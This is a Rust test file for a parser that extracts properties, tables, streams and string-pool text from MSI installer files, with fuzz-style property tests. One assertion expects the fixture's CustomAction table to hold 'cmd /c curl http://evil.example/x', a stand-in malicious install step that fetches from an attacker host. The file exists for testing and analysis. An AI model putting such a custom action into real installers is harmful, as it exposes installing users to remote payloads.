use noroshi_intake::Media;
use proptest::prelude::*;

use super::{Compound, fixture};
use crate::Role;
use crate::emit::tests::{hear, torture};

/// `!_StringPool` and `!_StringData` as installers spell them.
const POOL: &str = "\u{4840}\u{3F3F}\u{4577}\u{446C}\u{3E6A}\u{44B2}\u{482F}";
const DATA: &str = "\u{4840}\u{3F3F}\u{4577}\u{446C}\u{3B6A}\u{45E4}\u{4824}";

#[test]
fn an_installer_gives_its_tables_and_files() {
    let heard = hear("a.msi", Media::Ole, &fixture("real.msi"));
    assert_eq!(heard.part("property SERVERNAME"), ["AEC-DB01"]);
    assert_eq!(heard.part("property ProductName"), ["Aomi Denki Agent"]);
    assert_eq!(heard.part("property Author"), ["蒼海電機株式会社"]);
    assert_eq!(heard.part("property Comments"), ["AEC-2026 社内配布"]);
    let registry = heard.part("table Registry").concat();
    assert!(registry.contains("Software\\AomiDenki\\Agent\tServer\t198.51.100.7\tMain"), "{registry}");
    assert!(heard.part("table CustomAction").concat().contains("cmd /c curl http://evil.example/x"));
    assert!(heard.part("table File").concat().contains("aomi-payload.txt\t19"));
    assert_eq!(heard.role(&Role::Name), ["aec.cab", "Binary.script"]);
    assert!(heard.children[0].1.starts_with(b"MSCF"));
    assert!(String::from_utf8_lossy(&heard.children[1].1).contains("蒼海電機"));
    assert!(heard.notices.is_empty(), "{:?}", heard.notices);
    // Nothing is left for the reader of unknown streams: no packed name shows.
    assert!(heard.passages.iter().all(|p| !p.part.contains('\u{4840}')));
}

#[test]
fn texts_of_no_table_are_seen_and_broken_installers_bounded() {
    let text = "蒼海 deleted row";
    let long = "x".repeat(70_000);
    let mut pool = vec![0xE9, 0xFD, 0, 0];
    pool.extend(u16::try_from(text.len()).unwrap().to_le_bytes());
    pool.extend(1_u16.to_le_bytes());
    // A long string: a count that is the high half of its length.
    pool.extend([0, 0, 1, 0]);
    pool.extend(u16::try_from(long.len() - 0x1_0000).unwrap().to_le_bytes());
    pool.extend(1_u16.to_le_bytes());
    let bytes = Compound::new().with(POOL, &pool).with(DATA, format!("{text}{long}").as_bytes()).bytes();
    let heard = hear("a.msi", Media::Ole, &bytes);
    assert_eq!(heard.part("strings of no table"), [format!("{text}\n{long}")]);
    torture("a.msi", Media::Ole, &fixture("real.msi"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn any_bytes_go_through(pool in proptest::collection::vec(any::<u8>(), 0..600), data in proptest::collection::vec(any::<u8>(), 0..600)) {
        hear("noise", Media::Ole, &Compound::new().with(POOL, &pool).with(DATA, &data).with("\u{4840}\u{3B3F}\u{43F2}\u{4438}\u{45B1}", &data).bytes());
    }

    #[test]
    fn any_change_of_a_real_installer_goes_through(at in any::<u16>(), value in any::<u8>()) {
        let mut bytes = fixture("real.msi");
        let at = usize::from(at) % bytes.len();
        bytes[at] = value;
        hear("changed", Media::Ole, &bytes);
    }
}
